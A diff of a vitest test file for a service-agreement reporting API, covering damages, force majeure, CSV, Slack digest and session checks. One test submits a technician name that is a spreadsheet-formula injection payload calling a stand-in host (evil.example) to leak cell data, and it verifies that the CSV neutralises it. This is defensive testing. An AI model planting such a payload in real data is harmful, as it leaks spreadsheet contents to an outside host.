@@ -3,7 +3,7 @@
  * whose every figure is worked out by hand below, with period boundaries in the service's time
  * zone; an empty period; a technician with no tickets; the CSV; the weekly digest in Slack.
  */
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
 import { STAFF_CHANNEL } from './fakes/slack-api.ts'
 import { seedReportFixture } from './support/report-fixture.ts'
 import { eventually, startWorld, type World } from './support/world.ts'
@@ -17,7 +17,7 @@ beforeAll(async () => {
 })
 afterAll(() => world.close())
 
-const november = () => world.t.getJson('/api/reports/agreement?from=2026-11-01&to=2026-11-30') as Promise<Json>
+const november = (on: World = world) => on.t.getJson('/api/reports/agreement?from=2026-11-01&to=2026-11-30') as Promise<Json>
 const r = (numerator: number, denominator: number) => ({ numerator, denominator, value: denominator ? numerator / denominator : null })
 
 describe('November 2026, every figure by hand', () => {
@@ -49,13 +49,18 @@ describe('November 2026, every figure by hand', () => {
     expect(overall.warrantyRepairs).toEqual(r(1, 2))
     // Opened: T1's and T2's. Resolved: T2's and T6's (opened in October). Open at the end: T1's.
     expect(overall.complaints).toEqual({ opened: 2, resolved: 2, openAtEnd: 1 })
-    // T2's late response (50.00) and T3's installation under force majeure (30.00 waived).
-    expect(overall.breaches).toEqual({
-      byKind: { response: 1, installation: 1, diagnosis: 0, feedback: 0 },
-      total: 2,
-      damages: 50,
-      forceMajeure: { count: 1, damagesWaived: 30 },
+    // T2's late response and T3's installation, excused by the force majeure that named it.
+    expect(overall.breaches).toEqual({ byKind: { response: 1, installation: 1, diagnosis: 0, feedback: 0 }, total: 2, excused: 1 })
+    // §4.1b, once per non-conforming service: T1 (a non-genuine seal) 500 × 10% = 50 and T2 (late
+    // response) 500 × 10% = 50; T3's only reason is excused: 300 × 10% = 30 waived.
+    expect(overall.damages).toEqual({
+      services: 2,
+      amount: 100,
+      waived: { services: 1, amount: 30 },
+      byReason: { late_response: 1, late_installation: 1, late_diagnosis: 0, fix_rejected: 0, repeat_fault: 0, non_genuine_part: 1 },
     })
+    // §4.1c: T3's notice to Party A.
+    expect(overall.forceMajeureNotices).toBe(1)
   })
 
   it('per service type', async () => {
@@ -65,7 +70,9 @@ describe('November 2026, every figure by hand', () => {
     expect(byType.repair.cycleDays).toEqual({ total: 7, count: 2, average: 3.5, median: 3.5 })
     expect(byType.repair.satisfaction).toEqual(r(1, 2))
     expect(byType.installation.installedWithin3WorkingDays).toEqual(r(0, 1))
-    expect(byType.installation.breaches.forceMajeure).toEqual({ count: 1, damagesWaived: 30 })
+    expect(byType.installation.breaches.excused).toBe(1)
+    expect(byType.installation.damages).toMatchObject({ services: 0, amount: 0, waived: { services: 1, amount: 30 } })
+    expect(byType.repair.damages).toMatchObject({ services: 2, amount: 100 })
     expect(byType.technical_support.respondedWithin24h).toEqual(r(1, 1))
     expect(byType.technical_support.complaints).toEqual({ opened: 0, resolved: 1, openAtEnd: 0 })
     expect(byType.training.requests.total).toBe(0)
@@ -81,6 +88,7 @@ describe('November 2026, every figure by hand', () => {
     expect(wang.satisfaction).toEqual(r(1, 2))
     expect(wang.complaints).toEqual({ opened: 2, resolved: 1, openAtEnd: 1 })
     expect(wang.breaches.total).toBe(1)
+    expect(wang.damages.amount).toBe(100)
     expect(li.installedWithin3WorkingDays).toEqual(r(0, 1))
     expect(li.cycleDays).toMatchObject({ count: 1, average: 7, median: 7 })
     expect(zhao.requests.total).toBe(0)
@@ -94,12 +102,13 @@ describe('periods', () => {
     const { overall } = await world.t.getJson('/api/reports/agreement?from=2025-01-01&to=2025-01-31')
     expect(overall.requests.total).toBe(0)
     expect(overall.respondedWithin24h).toEqual({ numerator: 0, denominator: 0, value: null })
-    expect(overall.breaches.damages).toBe(0)
+    expect(overall.damages.amount).toBe(0)
   })
 
-  it('a leap year is the longest period', async () => {
+  it('a leap year is the longest period: 366 days, from midnight to midnight service time', async () => {
     const response = await world.t.admin('/api/reports/agreement?from=2028-01-01&to=2028-12-31')
     expect(response.status).toBe(200)
+    expect(((await response.json()) as Json).period).toEqual({ from: '2028-01-01', to: '2028-12-31', timeZone: 'Asia/Shanghai', start: '2027-12-31T16:00:00.000Z', end: '2028-12-31T16:00:00.000Z' })
   })
 
   it('a single day is cut at midnight service time', async () => {
@@ -117,6 +126,8 @@ describe('periods', () => {
     // Year 0 would reach PostgreSQL, which has none; years far out are no one's service period.
     ['?from=0001-01-01&to=2026-11-01', /between 1900 and 2999/],
     ['?from=2025-01-01&to=2026-11-30', /at most 366 days/],
+    // 367 days: one more than the leap year above.
+    ['?from=2028-01-01&to=2029-01-01', /at most 366 days/],
   ])('answers 400 to %s', async (query, message) => {
     const response = await world.t.admin(`/api/reports/agreement${query}`)
     expect(response.status).toBe(400)
@@ -161,7 +172,9 @@ describe('CSV', () => {
     expect(find('overall', '', 'responded_within_24h')).toEqual(['2026-11-01', '2026-11-30', 'Asia/Shanghai', 'overall', '', 'responded_within_24h', '3', '4', '0.75'])
     expect(find('technician', 'Li, Ming "Lao Li" 李明', 'installed_within_3_working_days')?.slice(6)).toEqual(['0', '1', '0'])
     expect(find('technician', 'Zhao (no tickets)', 'satisfaction')?.slice(6)).toEqual(['0', '0', ''])
-    expect(find('overall', '', 'liquidated_damages')?.[8]).toBe('50')
+    expect(find('overall', '', 'liquidated_damages')?.[8]).toBe('100')
+    expect(find('overall', '', 'non_conforming_services')?.[8]).toBe('2')
+    expect(find('overall', '', 'force_majeure_damages_waived')?.[8]).toBe('30')
     expect(text).toContain('"Li, Ming ""Lao Li"" 李明"')
   })
 })
@@ -175,7 +188,7 @@ describe('the weekly digest (§3.3c)', () => {
     expect(text).toContain('*Weekly service digest* — 2026-11-23 to 2026-11-29')
     expect(text).toContain(':warning: Installed within 3 working days (§2.1a): *0.0%* (0/1), target 100%')
     expect(text).toContain('• Responded within 24 h (§2.2): nothing to count')
-    expect(text).toContain('Deadline breaches: *1* (response 0, installation 1, diagnosis 0, feedback 0); liquidated damages *0.00 CNY* (§4.1b); force majeure 1, 30.00 CNY waived (§4.1c)')
+    expect(text).toContain('Deadline breaches: *1* (response 0, installation 1, diagnosis 0, feedback 0); non-conforming services 0, liquidated damages *0.00 CNY* (§4.1b, once per service); force majeure (§4.1c): notices 1, breaches excused 1, 30.00 CNY waived')
     expect(text).toContain('Complaints: 0 opened, 0 resolved, *1 open* (§3.3d)')
   })
 })
@@ -209,7 +222,8 @@ describe('npm run report', () => {
     const markdown = await run('md')
     expect(markdown).toContain('# Service report 2026-11-01 – 2026-11-30 (Asia/Shanghai)')
     expect(markdown).toContain('| responded within 24 h | 75.0% (3/4) | §2.2 |')
-    expect(markdown).toContain('| liquidated damages | 50.00 CNY | §4.1b |')
+    expect(markdown).toContain('| non-conforming services, liquidated damages (10% of value, once per service) | 2, 100.00 CNY | §4.1b |')
+    expect(markdown).toContain('| force majeure | 1 notices to Party A; 1 breaches excused; 1 services, 30.00 CNY waived | §4.1c |')
     expect(markdown).toContain('| Li, Ming "Lao Li" 李明 |')
     expect(markdown).toContain('| Repair | 2 |')
     expect(markdown).toContain('| Spare parts | 0 |')
@@ -217,24 +231,34 @@ describe('npm run report', () => {
   })
 })
 
-// These change the fixture: they run last.
+// These change the fixture: each on a fixture of its own, so no other test sees the change.
 describe('after the fixture changes', () => {
+  let changed: World
+  beforeEach(async () => {
+    changed = await startWorld()
+    await seedReportFixture(changed.t.db.prisma)
+  })
+  afterEach(() => changed.close())
+
   it('a reopened service no longer counts as completed, until it is confirmed again (§3.1f)', async () => {
-    const reopen = await world.t.admin('/api/tickets/SR-2026-000001/actions', { method: 'POST', body: JSON.stringify({ action: 'reopen', reason: 'The drum stopped again' }) })
+    expect((await november(changed)).overall.cycleDays).toEqual({ total: 14, count: 3, average: 14 / 3, median: 5 })
+    const reopen = await changed.t.admin('/api/tickets/SR-2026-000001/actions', { method: 'POST', body: JSON.stringify({ action: 'reopen', reason: 'The drum stopped again' }) })
     expect(reopen.status).toBe(200)
     // Completed in November: T2 5 days, T3 7 days; T1 is open again.
-    expect((await november()).overall.cycleDays).toEqual({ total: 12, count: 2, average: 6, median: 6 })
+    expect((await november(changed)).overall.cycleDays).toEqual({ total: 12, count: 2, average: 6, median: 6 })
   })
 
   it('a technician named like a formula is text in the CSV, not a formula', async () => {
-    const created = await world.t.admin('/api/technicians', { method: 'POST', body: JSON.stringify({ name: '=HYPERLINK("https://evil.example/?"&A2,"ok")' }) })
+    const created = await changed.t.admin('/api/technicians', { method: 'POST', body: JSON.stringify({ name: '=HYPERLINK("https://evil.example/?"&A2,"ok")' }) })
     expect(created.status).toBe(201)
-    const rows = parseCsv((await (await world.t.admin('/api/reports/agreement.csv?from=2026-11-01&to=2026-11-30')).text()).replace(/^\ufeff/, ''))
+    const rows = parseCsv((await (await changed.t.admin('/api/reports/agreement.csv?from=2026-11-01&to=2026-11-30')).text()).replace(/^\ufeff/, ''))
     const keys = new Set(rows.filter((row) => row[3] === 'technician').map((row) => row[4]))
     expect(keys).toContain(`'=HYPERLINK("https://evil.example/?"&A2,"ok")`)
     expect([...keys].some((key) => /^[=+\-@]/.test(key!))).toBe(false)
   })
+})
 
+describe('the dashboard’s session', () => {
   it('a malformed session cookie is no session: the sign-in page, or 401', async () => {
     const headers = { cookie: 'aftercare_session=%E0%A4%A' }
     const page = await fetch(`${world.t.url}/dashboard`, { headers })
